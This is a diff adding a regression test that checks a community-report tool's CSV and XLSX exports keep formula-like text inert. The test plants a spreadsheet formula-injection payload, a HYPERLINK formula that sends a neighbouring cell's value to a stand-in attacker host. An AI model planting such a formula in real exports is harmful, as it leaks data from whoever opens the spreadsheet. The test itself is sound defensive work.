@@ -166,3 +166,25 @@ def test_export_open311(env: Path) -> None:
     assert first["requested_datetime"] == "2026-11-16T09:00:00+08:00"
     assert first["updated_datetime"] == "2026-11-16T15:00:00+08:00"
     assert first["address"] == "滨海社区 3号楼2单元"
+
+
+def test_exports_never_hold_a_formula(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A report or a note that starts like a formula stays text in CSV and XLSX (found in review: "=HYPERLINK(…)"
+    in a report ran in the committee's spreadsheet)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"3号楼电梯坏了")'
+
+    async def plant() -> None:
+        db = await Database.open(env / "linli.db")
+        async with db.tx() as c:
+            await c.execute("UPDATE events SET text = ?, outcome_note = '+1 done' WHERE id = 1", (evil,))
+        await db.close()
+
+    asyncio.run(plant())
+    assert main(["export", "--since", "2026-11-16", "--until", "2026-11-22"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
+    cells = [v for v in rows[0].values() if v and "HYPERLINK" in v]
+    assert cells == ["'" + evil]
+    assert main(["export", "--format", "xlsx", "--out", str(env / "e.xlsx")]) == 0
+    ws = load_workbook(env / "e.xlsx").active
+    found = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert [(c.value, c.data_type) for c in found] == [(evil, "s")]
